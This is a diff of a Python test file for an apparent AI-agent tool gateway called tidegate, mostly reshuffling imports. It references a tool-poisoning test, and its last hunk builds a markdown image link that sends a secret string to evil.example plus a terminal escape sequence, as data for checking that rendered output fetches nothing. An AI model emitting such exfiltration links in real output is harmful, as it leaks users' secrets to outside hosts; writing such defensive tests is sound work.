@@ -30,19 +30,19 @@ from tests.agent.scene import (
 )
 
 from tidegate.agent.loop import Ended, Outcome
+from tidegate.agent.messages import Asked, Returned
 from tidegate.agent.prompt import Model
 from tidegate.agent.scripted import Rule, ScriptedModel, Step
-from tidegate.agent.turns import Asked, Returned
-from tidegate.config_servers import Server
-from tidegate.core.trail import Wanted
-from tidegate.domain.audit import Action
-from tidegate.domain.record import Origin
+from tidegate.audit.chain import Action
+from tidegate.config.servers import Server
 from tidegate.gateway.gateway import Gateway
 from tidegate.gateway.guard import Check
 from tidegate.gateway.pins import Definition, Definitions, Pins
-from tidegate.gateway.results import Reply
+from tidegate.gateway.replies import Reply
+from tidegate.owner.audit_query import Wanted
 from tidegate.policy.levels import Level
 from tidegate.policy.servers import Classification
+from tidegate.records.record import Origin
 
 DOCUMENT = Path(__file__).parents[2] / "docs" / "attacks.md"
 SECRET = "the merger is on the ninth"
@@ -237,7 +237,7 @@ def test_a_tool_that_is_poisoned_from_the_start_is_what_its_owner_trusted(scene:
 def test_rendered_output_fetches_nothing_hides_no_address_and_obeys_no_control() -> None:
     from rich.console import Console
 
-    from tidegate.surfaces.terminal import markdown
+    from tidegate.cli.terminal import markdown
 
     image = f"![x](https://evil.example/?q={SECRET.replace(' ', '+')})"
     text = f"{image} [here](https://evil.example/2) \x1b]8;;https://e\x07y"
